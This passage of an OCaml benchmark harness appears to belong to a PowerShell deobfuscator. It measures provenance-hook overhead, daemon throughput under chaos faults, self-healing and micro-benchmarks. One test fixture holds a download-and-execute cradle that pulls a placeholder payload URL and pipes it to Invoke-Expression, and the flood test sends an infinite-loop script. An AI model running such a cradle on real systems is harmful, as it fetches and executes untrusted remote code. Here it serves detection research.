      wall.  The hook is one option match; its per-call cost is bounded
      here by a poisoned recorder's early return (same shape: branch and
      exit, no allocation) and scaled by the corpus's measured write
      volume.}} *)
let run_provenance () =
  line ();
  let module Guard = Pscommon.Guard in
  let count = 24 in
  let seed = 23 in
  let samples = Corpus.Generator.generate_dynamic ~seed ~count in
  let dir = Filename.temp_dir "bench_provenance" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf
    "dynamic provenance: %d dynamic-only samples (seed %d), static vs \
     dynamic\n"
    count seed;
  let static_options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Engine.default_options.Deobf.Engine.recovery with
          Deobf.Engine.use_dynamic = false } }
  in
  let run ~options ~verify tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    (* best of 3, as in the verify bench: these walls are small enough for
       one GC slice to read as tens of percent *)
    let best = ref infinity and last = ref None in
    for rep = 1 to 3 do
      let t0 = Guard.now () in
      let summary =
        Deobf.Batch.run_files ~options ~timeout_s:30.0
          ~out_dir:(Printf.sprintf "%s_r%d" out_dir rep) ~jobs:1 ~verify files
      in
      let wall = Guard.now () -. t0 in
      if wall < !best then best := wall;
      last := Some summary
    done;
    (Option.get !last, !best)
  in
  let _s_static, wall_static =
    run ~options:static_options ~verify:false "static"
  in
  let s_dyn, wall_dyn =
    run ~options:Deobf.Engine.default_options ~verify:true "dynamic"
  in
  let sum_stat f =
    List.fold_left
      (fun acc (o : Deobf.Batch.outcome) -> acc + f o.Deobf.Batch.stats)
      0 s_dyn.Deobf.Batch.outcomes
  in
  let attempted = sum_stat (fun st -> st.Deobf.Recover.dynamic_attempted) in
  let unverifiable = sum_stat (fun st -> st.Deobf.Recover.dynamic_unverifiable) in
  let recovered_rows =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           o.Deobf.Batch.stats.Deobf.Recover.dynamic_recovered >= 1)
         s_dyn.Deobf.Batch.outcomes)
  in
  let tally v =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           match o.Deobf.Batch.verdict with
           | Some verdict -> Deobf.Verify.verdict_name verdict = v
           | None -> false)
         s_dyn.Deobf.Batch.outcomes)
  in
  let equivalent = tally "equivalent" in
  let rolled_back = tally "rolled_back" in
  let diverged = tally "diverged" in
  let unverifiable_verdicts = tally "unverifiable" in
  (* write volume: one full sandbox execution per sample with a live
     recorder counts exactly the writes the disabled hook would see *)
  let writes_total =
    List.fold_left
      (fun acc (s : Corpus.Generator.sample) ->
        let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
        let p = Pseval.Provenance.create () in
        env.Pseval.Env.provenance <- Some p;
        ignore (Pseval.Interp.run_script env s.obfuscated);
        acc + Pseval.Provenance.count p)
      0 samples
  in
  let writes_per_sample = float_of_int writes_total /. float_of_int count in
  let percall_ns =
    let p = Pseval.Provenance.create ~cap:0 () in
    let extent = Pscommon.Extent.make ~start:0 ~stop:1 in
    (* first note trips the cap and poisons; every later call is the
       sticky early return we are timing *)
    Pseval.Provenance.note p ~var:"x" ~extent ~step:0 ~reads:[];
    let iters = 2_000_000 in
    let t0 = Guard.now () in
    for i = 1 to iters do
      Pseval.Provenance.note p ~var:"x" ~extent ~step:i ~reads:[]
    done;
    (Guard.now () -. t0) *. 1e9 /. float_of_int iters
  in
  let disabled_overhead_pct =
    if wall_static > 0.0 then
      100.0 *. (float_of_int writes_total *. percall_ns *. 1e-9) /. wall_static
    else 0.0
  in
  let majority = 2 * recovered_rows > count in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_static\": %.3f," wall_static;
        Printf.sprintf "  \"wall_s_dynamic_verified\": %.3f," wall_dyn;
        Printf.sprintf
          "  \"dynamic\": {\"attempted\": %d, \"recovered_rows\": %d, \
           \"unverifiable\": %d},"
          attempted recovered_rows unverifiable;
        Printf.sprintf
          "  \"verdicts\": {\"equivalent\": %d, \"rolled_back\": %d, \
           \"diverged\": %d, \"unverifiable\": %d},"
          equivalent rolled_back diverged unverifiable_verdicts;
        Printf.sprintf "  \"recovered_majority\": %b," majority;
        Printf.sprintf "  \"writes_per_sample\": %.1f," writes_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.4f" disabled_overhead_pct;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_provenance.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf "  static (dynamic off): %.2fs; dynamic + verify: %.2fs\n"
    wall_static wall_dyn;
  Printf.printf
    "  dynamic stage: %d regions attempted, %d/%d rows recovered, %d \
     unverifiable\n"
    attempted recovered_rows count unverifiable;
  Printf.printf
    "  verdicts: %d equivalent, %d rolled_back, %d diverged, %d \
     unverifiable\n"
    equivalent rolled_back diverged unverifiable_verdicts;
  Printf.printf
    "  disabled hook: %.1f writes/sample at %.1f ns/call, est. overhead \
     %.4f%%\n"
    writes_per_sample percall_ns disabled_overhead_pct;
  print_endline "  wrote BENCH_provenance.json";
  if not majority then begin
    Printf.eprintf
      "FAIL: dynamic stage recovered only %d of %d dynamic-only rows\n"
      recovered_rows count;
    exit 1
  end;
  if diverged > 0 then begin
    Printf.eprintf
      "FAIL: %d dynamic sample(s) diverged without a successful rollback\n"
      diverged;
    exit 1
  end;
  if disabled_overhead_pct > 1.0 then begin
    Printf.eprintf
      "FAIL: disabled provenance-hook overhead %.4f%% exceeds the 1%% \
       budget\n"
      disabled_overhead_pct;
    exit 1
  end

(* ---------- service mode (daemon throughput, overload, drain) ---------- *)

(* Is the daemon worth running?  The same fixed-seed corpus goes through
   (a) a cold one-shot batch run — the price of a fresh process per
   invocation, the daemon's competition — and (b) an in-process daemon
   over a Unix socket, twice: a cold pass and a warm pass that replays the
   identical requests against the now-populated per-worker piece cache.
   Request latency quantiles (p50/p99) come from the daemon's own
   [serve.request_ms] log2 histogram via {!Telemetry.Metrics.quantile}.
   A seeded chaos flood then hits the socket edges ([serve.*] at 10%) with
   2x queue-capacity load and reports the shed rate.  Fails loudly when
   the warm daemon is slower than the cold batch (the warm cache and
   amortized startup are the daemon's whole pitch), when any flood request
   goes unanswered, or when the drain does not exit 0. *)
let run_serve () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let module T = Pscommon.Telemetry in
  let count = 24 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_serve" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "service mode: %d samples (seed %d), cold batch vs daemon\n"
    count seed;
  (* (a) cold batch: one-shot pipeline, fresh caches *)
  let t0 = Guard.now () in
  let _ =
    Deobf.Batch.run_files ~timeout_s:30.0
      ~out_dir:(Filename.concat dir "out_batch") ~jobs:1 files
  in
  let wall_batch = Guard.now () -. t0 in
  let batch_rps = float_of_int count /. wall_batch in
  (* (b) in-process daemon on a Unix socket *)
  let sock = Filename.concat dir "bench.sock" in
  let queue_cap = 8 in
  let cfg =
    {
      (Deobf.Serve.default_config (Deobf.Serve.Unix_sock sock)) with
      Deobf.Serve.jobs = 1;
      queue_cap;
    }
  in
  let server =
    match Deobf.Serve.start cfg with
    | Ok s -> s
    | Error e ->
        Printf.eprintf "FAIL: daemon did not start: %s\n" e;
        exit 1
  in
  let connect () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    Unix.connect fd (Unix.ADDR_UNIX sock);
    fd
  in
  let send_all fd s =
    let n = String.length s in
    let off = ref 0 in
    while !off < n do
      off := !off + Unix.write_substring fd s !off (n - !off)
    done
  in
  (* read until [n] non-empty lines or EOF; the daemon answers every
     request, so a shortfall is itself a finding *)
  let read_lines fd n =
    let buf = Buffer.create 65536 in
    let chunk = Bytes.create 65536 in
    let deadline = Guard.now () +. 180.0 in
    let count_lines () =
      List.length
        (List.filter
           (fun l -> String.trim l <> "")
           (String.split_on_char '\n' (Buffer.contents buf)))
    in
    let eof = ref false in
    while (not !eof) && count_lines () < n && Guard.now () < deadline do
      match Unix.select [ fd ] [] [] 0.2 with
      | [], _, _ -> ()
      | _ -> (
          match Unix.read fd chunk 0 (Bytes.length chunk) with
          | 0 -> eof := true
          | k -> Buffer.add_subbytes buf chunk 0 k
          | exception Unix.Unix_error _ -> eof := true)
    done;
    List.filter
      (fun l -> String.trim l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  let daemon_pass tag =
    let fd = connect () in
    let t0 = Guard.now () in
    List.iteri
      (fun i (s : Corpus.Generator.sample) ->
        send_all fd
          (Printf.sprintf "{\"id\":\"%s-%d\",\"script\":%s}\n" tag i
             (T.json_string s.obfuscated)))
      samples;
    let lines = read_lines fd count in
    let wall = Guard.now () -. t0 in
    Unix.close fd;
    if List.length lines <> count then begin
      Printf.eprintf "FAIL: daemon %s pass answered %d/%d requests\n" tag
        (List.length lines) count;
      exit 1
    end;
    wall
  in
  let wall_cold = daemon_pass "cold" in
  let wall_warm = daemon_pass "warm" in
  let cold_rps = float_of_int count /. wall_cold in
  let warm_rps = float_of_int count /. wall_warm in
  (* latency quantiles over the two passes, before the flood skews them *)
  let p50, p99 =
    let snap = T.Metrics.snapshot () in
    match List.assoc_opt "serve.request_ms" snap.T.Metrics.histograms with
    | Some hs ->
        let q x =
          let v = T.Metrics.quantile hs x in
          if Float.is_nan v then 0.0 else v
        in
        (q 0.5, q 0.99)
    | None -> (0.0, 0.0)
  in
  (* chaos flood: every socket edge faulting at 10%, 2x queue capacity of
     deliberately slow requests so admission control actually sheds *)
  let flood_n = 2 * queue_cap in
  Chaos.set
    (Some
       {
         Chaos.seed = 7;
         rate = 0.0;
         site_rates =
           [
             ("serve.accept", 0.1); ("serve.read", 0.1); ("serve.write", 0.1);
             ("serve.queue", 0.1);
           ];
       });
  let flood_lines =
    let fd = connect () in
    let bomb = "$x = $(while (1 -lt 2) { 1 }; 'done')" in
    for i = 1 to flood_n do
      send_all fd
        (Printf.sprintf "{\"id\":\"f-%d\",\"script\":%s,\"timeout_s\":0.3}\n" i
           (T.json_string bomb))
    done;
    let lines = read_lines fd flood_n in
    Unix.close fd;
    lines
  in
  Chaos.set None;
  let flood_answered = List.length flood_lines in
  let shed =
    List.length
      (List.filter
         (fun l ->
           Deobf.Jsonl.string_field l "status" = Some "overloaded")
         flood_lines)
  in
  let shed_rate = float_of_int shed /. float_of_int flood_n in
  (* the daemon must have survived the flood: a fresh connection answers *)
  let alive =
    let fd = connect () in
    send_all fd "{\"op\":\"health\",\"id\":\"hb\"}\n";
    let lines = read_lines fd 1 in
    Unix.close fd;
    lines <> []
  in
  Deobf.Serve.stop server;
  let exit_code = Deobf.Serve.wait server in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"cold_batch_wall_s\": %.3f," wall_batch;
        Printf.sprintf "  \"cold_batch_rps\": %.2f," batch_rps;
        Printf.sprintf "  \"daemon_cold_wall_s\": %.3f," wall_cold;
        Printf.sprintf "  \"daemon_cold_rps\": %.2f," cold_rps;
        Printf.sprintf "  \"daemon_warm_wall_s\": %.3f," wall_warm;
        Printf.sprintf "  \"daemon_warm_rps\": %.2f," warm_rps;
        Printf.sprintf "  \"p50_ms\": %.3f," p50;
        Printf.sprintf "  \"p99_ms\": %.3f," p99;
        Printf.sprintf "  \"flood_requests\": %d," flood_n;
        Printf.sprintf "  \"flood_answered\": %d," flood_answered;
        Printf.sprintf "  \"shed\": %d," shed;
        Printf.sprintf "  \"shed_rate\": %.3f," shed_rate;
        Printf.sprintf "  \"daemon_alive_after_flood\": %b," alive;
        Printf.sprintf "  \"drain_exit_code\": %d" exit_code;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_serve.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  cold batch:  %.2fs (%.1f req/s)\n  daemon cold: %.2fs (%.1f req/s)\n\
    \  daemon warm: %.2fs (%.1f req/s)\n"
    wall_batch batch_rps wall_cold cold_rps wall_warm warm_rps;
  Printf.printf "  latency: p50 %.2f ms, p99 %.2f ms\n" p50 p99;
  Printf.printf
    "  flood: %d/%d answered under serve.* faults, %d shed (%.0f%%)\n"
    flood_answered flood_n shed (100.0 *. shed_rate);
  Printf.printf "  drain exit code: %d\n" exit_code;
  print_endline "  wrote BENCH_serve.json";
  if warm_rps < batch_rps then begin
    Printf.eprintf
      "FAIL: warm daemon (%.1f req/s) slower than cold batch (%.1f req/s)\n"
      warm_rps batch_rps;
    exit 1
  end;
  if flood_answered <> flood_n then begin
    Printf.eprintf "FAIL: flood answered %d/%d requests\n" flood_answered
      flood_n;
    exit 1
  end;
  if not alive then begin
    Printf.eprintf "FAIL: daemon unresponsive after the chaos flood\n";
    exit 1
  end;
  if exit_code <> 0 then begin
    Printf.eprintf "FAIL: drain exited %d\n" exit_code;
    exit 1
  end

(* ---------- self-healing: wedge MTTR, memory chaos, quarantine ---------- *)

(* Three adversarial passes against the supervision plane:
   (a) seeded [serve.wedge] chaos spins workers in checkpoint-free loops;
       the watchdog must answer each victim (MTTR gate: p99 within
       deadline + 2x grace) and a 2x-queue-cap flood must come back fully
       answered with the daemon alive;
   (b) the memory governor is driven through Soft/Hard overrides
       mid-stream; every pressured request must shed with
       [reason:"memory"] and nothing may go unanswered;
   (c) a seeded bad-rule script (the divergent loop fold the verify gate
       demonstrably rolls back) is replayed until quarantine trips; the
       gate is convergence — rollbacks stop once the breaker opens. *)
let run_selfheal () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let module Memwatch = Pscommon.Memwatch in
  let module T = Pscommon.Telemetry in
  let module Q = Deobf.Quarantine in
  print_endline "self-healing: wedge MTTR, memory chaos, quarantine";
  let dir = Filename.temp_dir "bench_selfheal" "" in
  let sock = Filename.concat dir "selfheal.sock" in
  let queue_cap = 8 in
  let timeout_s = 0.3 and grace_s = 0.4 in
  let cfg =
    {
      (Deobf.Serve.default_config (Deobf.Serve.Unix_sock sock)) with
      Deobf.Serve.jobs = 2;
      queue_cap;
      default_timeout_s = timeout_s;
      max_timeout_s = 5.0;
      grace_s;
    }
  in
  (* every fault below is seeded: same sequence every run *)
  Chaos.set
    (Some
       { Chaos.seed = 11; rate = 0.0; site_rates = [ ("serve.wedge", 0.3) ] });
  let server =
    match Deobf.Serve.start cfg with
    | Ok s -> s
    | Error e ->
        Printf.eprintf "FAIL: daemon did not start: %s\n" e;
        exit 1
  in
  let connect () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    Unix.connect fd (Unix.ADDR_UNIX sock);
    fd
  in
  let send_all fd s =
    let n = String.length s in
    let off = ref 0 in
    while !off < n do
      off := !off + Unix.write_substring fd s !off (n - !off)
    done
  in
  let read_lines fd n =
    let buf = Buffer.create 65536 in
    let chunk = Bytes.create 65536 in
    let deadline = Guard.now () +. 180.0 in
    let count_lines () =
      List.length
        (List.filter
           (fun l -> String.trim l <> "")
           (String.split_on_char '\n' (Buffer.contents buf)))
    in
    let eof = ref false in
    while (not !eof) && count_lines () < n && Guard.now () < deadline do
      match Unix.select [ fd ] [] [] 0.2 with
      | [], _, _ -> ()
      | _ -> (
          match Unix.read fd chunk 0 (Bytes.length chunk) with
          | 0 -> eof := true
          | k -> Buffer.add_subbytes buf chunk 0 k
          | exception Unix.Unix_error _ -> eof := true)
    done;
    List.filter
      (fun l -> String.trim l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  (* (a) sequential MTTR probe: one request in flight, so each wedged
     round-trip isolates detect + answer + respawn *)
  let script = "Write-Output ('he'+'al')" in
  let probe_n = 20 in
  let wedged_rtts = ref [] and ok_n = ref 0 and unanswered = ref 0 in
  let fd = connect () in
  for i = 1 to probe_n do
    let t0 = Guard.now () in
    send_all fd
      (Printf.sprintf "{\"id\":\"m-%d\",\"script\":%s}\n" i
         (T.json_string script));
    match read_lines fd 1 with
    | [] -> incr unanswered
    | l :: _ ->
        let rtt = Guard.now () -. t0 in
        if Deobf.Jsonl.string_field l "kind" = Some "wedged" then
          wedged_rtts := rtt :: !wedged_rtts
        else incr ok_n
  done;
  Unix.close fd;
  let wedge_n = List.length !wedged_rtts in
  let mttr_p99 =
    match List.sort compare !wedged_rtts with
    | [] -> 0.0
    | sorted ->
        let i =
          min (List.length sorted - 1)
            (int_of_float (ceil (0.99 *. float_of_int (List.length sorted))) - 1)
        in
        List.nth sorted (max 0 i)
  in
  let mttr_budget = timeout_s +. (2.0 *. grace_s) in
  (* (a') wedge flood: 2x queue capacity pipelined under the same chaos;
     the only gate is that every line is answered and the daemon lives *)
  let flood_n = 2 * queue_cap in
  let flood_lines =
    let fd = connect () in
    for i = 1 to flood_n do
      send_all fd
        (Printf.sprintf "{\"id\":\"w-%d\",\"script\":%s}\n" i
           (T.json_string script))
    done;
    let lines = read_lines fd flood_n in
    Unix.close fd;
    lines
  in
  let flood_answered = List.length flood_lines in
  Chaos.set None;
  (* (b) memory chaos: force the governor through its levels and check
     the shed contract; overrides flip between fully-answered segments,
     so the request<->level pairing is deterministic *)
  let mem_segment ~tag n =
    let fd = connect () in
    for i = 1 to n do
      send_all fd
        (Printf.sprintf "{\"id\":\"%s-%d\",\"script\":%s}\n" tag i
           (T.json_string script))
    done;
    let lines = read_lines fd n in
    Unix.close fd;
    lines
  in
  let seg_ok = mem_segment ~tag:"n0" 6 in
  Memwatch.set_override (Some Memwatch.Soft);
  let seg_soft = mem_segment ~tag:"soft" 6 in
  Memwatch.set_override (Some Memwatch.Hard);
  let seg_hard = mem_segment ~tag:"hard" 4 in
  Memwatch.set_override None;
  let seg_after = mem_segment ~tag:"n1" 6 in
  let mem_sent = 6 + 6 + 4 + 6 in
  let mem_answered =
    List.length seg_ok + List.length seg_soft + List.length seg_hard
    + List.length seg_after
  in
  let shed_memory =
    List.length
      (List.filter
         (fun l ->
           Deobf.Jsonl.string_field l "status" = Some "overloaded"
           && Deobf.Jsonl.string_field l "reason" = Some "memory")
         (seg_soft @ seg_hard))
  in
  let mem_contract_ok = shed_memory = List.length seg_soft + List.length seg_hard in
  let alive =
    let fd = connect () in
    send_all fd "{\"op\":\"health\",\"id\":\"hb\"}\n";
    let lines = read_lines fd 1 in
    Unix.close fd;
    lines <> []
  in
  Deobf.Serve.stop server;
  let exit_code = Deobf.Serve.wait server in
  let snap = T.Metrics.snapshot () in
  let counter name =
    match List.assoc_opt name snap.T.Metrics.counters with
    | Some n -> n
    | None -> 0
  in
  (* (c) quarantine convergence: replay a script whose rewrites the verify
     gate rolls back on every request.  The loop-carried fold that used to
     diverge on its own is recovered correctly now (the dynamic stage
     substitutes the true final value), so the rollback is forced the same
     way the resilience suite does it: a seeded fault at the gate's
     [verify.diff] comparison reads as divergence and walks every edit
     back — including the [recover.dynamic.loop] edit, so the breaker is
     exercised on the dynamic rule keys too *)
  let bad_src =
    "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x"
  in
  Chaos.set
    (Some { Chaos.seed = 11; rate = 0.0; site_rates = [ ("verify.diff", 1.0) ] });
  Q.reset ();
  Q.set_enabled true;
  Q.configure ~k:3 ~window_s:300.0 ~cooldown_s:3600.0 ();
  let replay = 8 in
  let tripped_at = ref None and rolled_pre = ref 0 and rolled_post = ref 0 in
  for i = 1 to replay do
    let o, _out =
      Deobf.Batch.run_source ~verify:true
        ~name:(Printf.sprintf "bad-%d" i) bad_src
    in
    let rolled =
      match o.Deobf.Batch.verdict with
      | Some (Deobf.Verify.Rolled_back n) -> n > 0
      | _ -> false
    in
    (match !tripped_at with
    | None ->
        if rolled then incr rolled_pre;
        if Q.snapshot () <> [] then tripped_at := Some i
    | Some _ -> if rolled then incr rolled_post)
  done;
  let quarantined_rules = Q.snapshot () in
  Chaos.set None;
  Q.set_enabled false;
  Q.reset ();
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"probe_requests\": %d," probe_n;
        Printf.sprintf "  \"wedged\": %d," wedge_n;
        Printf.sprintf "  \"wedge_mttr_p99_s\": %.3f," mttr_p99;
        Printf.sprintf "  \"wedge_mttr_budget_s\": %.3f," mttr_budget;
        Printf.sprintf "  \"flood_requests\": %d," flood_n;
        Printf.sprintf "  \"flood_answered\": %d," flood_answered;
        Printf.sprintf "  \"workers_respawned\": %d,"
          (counter "pool.service.respawns");
        Printf.sprintf "  \"mem_requests\": %d," mem_sent;
        Printf.sprintf "  \"mem_answered\": %d," mem_answered;
        Printf.sprintf "  \"mem_shed_with_reason\": %d," shed_memory;
        Printf.sprintf "  \"cache_shrinks\": %d,"
          (counter "recover.cache.shrinks");
        Printf.sprintf "  \"daemon_alive\": %b," alive;
        Printf.sprintf "  \"drain_exit_code\": %d," exit_code;
        Printf.sprintf "  \"quarantine_replay\": %d," replay;
        Printf.sprintf "  \"quarantine_tripped_at\": %s,"
          (match !tripped_at with Some i -> string_of_int i | None -> "null");
        Printf.sprintf "  \"rollbacks_before_trip\": %d," !rolled_pre;
        Printf.sprintf "  \"rollbacks_after_trip\": %d," !rolled_post;
        Printf.sprintf "  \"quarantined_rules\": [%s]"
          (String.concat ", "
             (List.map
                (fun (r, s) -> Printf.sprintf "{\"rule\": %s, \"state\": %s}"
                   (T.json_string r) (T.json_string s))
                quarantined_rules));
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_selfheal.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  wedge probe: %d/%d wedged, MTTR p99 %.2fs (budget %.2fs)\n"
    wedge_n probe_n mttr_p99 mttr_budget;
  Printf.printf "  wedge flood: %d/%d answered, %d respawns\n" flood_answered
    flood_n (counter "pool.service.respawns");
  Printf.printf
    "  memory chaos: %d/%d answered, %d shed with reason=memory, %d cache \
     shrink(s)\n"
    mem_answered mem_sent shed_memory
    (counter "recover.cache.shrinks");
  Printf.printf
    "  quarantine: tripped at request %s, rollbacks %d before / %d after\n"
    (match !tripped_at with Some i -> string_of_int i | None -> "never")
    !rolled_pre !rolled_post;
  print_endline "  wrote BENCH_selfheal.json";
  if !unanswered > 0 then begin
    Printf.eprintf "FAIL: %d MTTR probe request(s) unanswered\n" !unanswered;
    exit 1
  end;
  if wedge_n = 0 then begin
    Printf.eprintf "FAIL: seeded chaos produced no wedged workers\n";
    exit 1
  end;
  if mttr_p99 > mttr_budget then begin
    Printf.eprintf "FAIL: wedge MTTR p99 %.3fs over budget %.3fs\n" mttr_p99
      mttr_budget;
    exit 1
  end;
  if flood_answered <> flood_n then begin
    Printf.eprintf "FAIL: wedge flood answered %d/%d\n" flood_answered flood_n;
    exit 1
  end;
  if mem_answered <> mem_sent then begin
    Printf.eprintf "FAIL: memory chaos answered %d/%d\n" mem_answered mem_sent;
    exit 1
  end;
  if not mem_contract_ok then begin
    Printf.eprintf
      "FAIL: %d pressured responses, only %d carried reason=memory\n"
      (List.length seg_soft + List.length seg_hard)
      shed_memory;
    exit 1
  end;
  if not alive then begin
    Printf.eprintf "FAIL: daemon unresponsive after self-heal run\n";
    exit 1
  end;
  if exit_code <> 0 then begin
    Printf.eprintf "FAIL: drain exited %d\n" exit_code;
    exit 1
  end;
  (match !tripped_at with
  | None ->
      Printf.eprintf "FAIL: quarantine never tripped on the bad-rule corpus\n";
      exit 1
  | Some i when i > 4 ->
      Printf.eprintf "FAIL: quarantine tripped only at request %d (K=3)\n" i;
      exit 1
  | Some _ -> ());
  if !rolled_post > 0 then begin
    Printf.eprintf
      "FAIL: %d rollback(s) after the breaker opened — no convergence\n"
      !rolled_post;
    exit 1
  end

(* ---------- Bechamel micro-benchmarks ---------- *)

let micro_tests () =
  let open Bechamel in
  let sample =
    let rng = Pscommon.Rng.of_int 5 in
    Obfuscator.Obfuscate.multilayer rng 2
      "$u = 'https://example.com/payload.txt'\n\
       (New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
  in
  let simple = "('wri'+'te-host') ('he'+'llo')" in
  (* a recovery-sized piece through Interp.invoke_piece's parse+walk —
     the per-execution cost the recovery fixpoint pays on a cache miss *)
  let piece = "(('In'+'voke')+('-Ex'+'pression'))+[string](17*3+2)" in
  [
    Test.make ~name:"lexer/multilayer-sample"
      (Staged.stage (fun () -> ignore (Pslex.Lexer.tokenize sample)));
    Test.make ~name:"parser/multilayer-sample"
      (Staged.stage (fun () -> ignore (Psparse.Parser.parse sample)));
    Test.make ~name:"interp/concat-piece"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Interp.invoke_piece env "'he'+'llo'")));
    Test.make ~name:"pseval/piece-walked"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Interp.invoke_piece env piece)));
    Test.make ~name:"deobf/simple"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run simple)));
    Test.make ~name:"deobf/multilayer"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run sample)));
    Test.make ~name:"score/multilayer-sample"
      (Staged.stage (fun () -> ignore (Deobf.Score.score sample)));
    Test.make ~name:"deflate/roundtrip-1k"
      (Staged.stage (fun () ->
           let data =
             String.concat "" (List.init 128 (fun i -> Printf.sprintf "line %d;" i))
           in
           ignore (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate data))));
  ]

let run_micro () =
  line ();
  print_endline "Bechamel micro-benchmarks (monotonic clock)";
  let open Bechamel in
  let instance = Toolkit.Instance.monotonic_clock in
  let cfg = Benchmark.cfg ~limit:300 ~quota:(Time.second 0.5) () in
  List.iter
    (fun test ->
      let results = Benchmark.all cfg [ instance ] (Test.make_grouped ~name:"micro" [ test ]) in
      let analyzed =
        Analyze.all
          (Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |])
          instance results
      in
      Hashtbl.iter
        (fun name ols ->
          match Analyze.OLS.estimates ols with
          | Some [ est ] -> Printf.printf "  %-36s %14.1f ns/run\n" name est
          | Some _ | None -> Printf.printf "  %-36s (no estimate)\n" name)
        analyzed)
    (micro_tests ())

let registry =
  [ ("table1", run_table1); ("table2", run_table2); ("fig5", run_fig5);
    ("fig6", run_fig6); ("table3", run_table3); ("table4", run_table4);
    ("table5", run_table5); ("case", run_case); ("ablate", run_ablate);
    ("amsi", run_amsi); ("unknown", run_unknown); ("limits", run_limits);
    ("funnel", run_funnel); ("throughput", run_throughput);
    ("obs", run_obs); ("resilience", run_resilience); ("verify", run_verify);
    ("provenance", run_provenance); ("serve", run_serve);
    ("selfheal", run_selfheal); ("micro", run_micro) ]

let () =
  match Array.to_list Sys.argv with
  | _ :: (_ :: _ as names) ->
      List.iter
        (fun name ->
          match List.assoc_opt name registry with
          | Some f -> f ()
          | None ->
              Printf.eprintf "unknown experiment %s; available: %s\n" name
                (String.concat " " (List.map fst registry));
              exit 1)
        names
  | _ ->
      (* micro, throughput and serve are long-running timing suites (serve
         additionally spins a live daemon): explicit only *)
      List.iter
        (fun (name, f) ->
          if name <> "micro" && name <> "throughput" && name <> "serve" then
            f ())
        registry
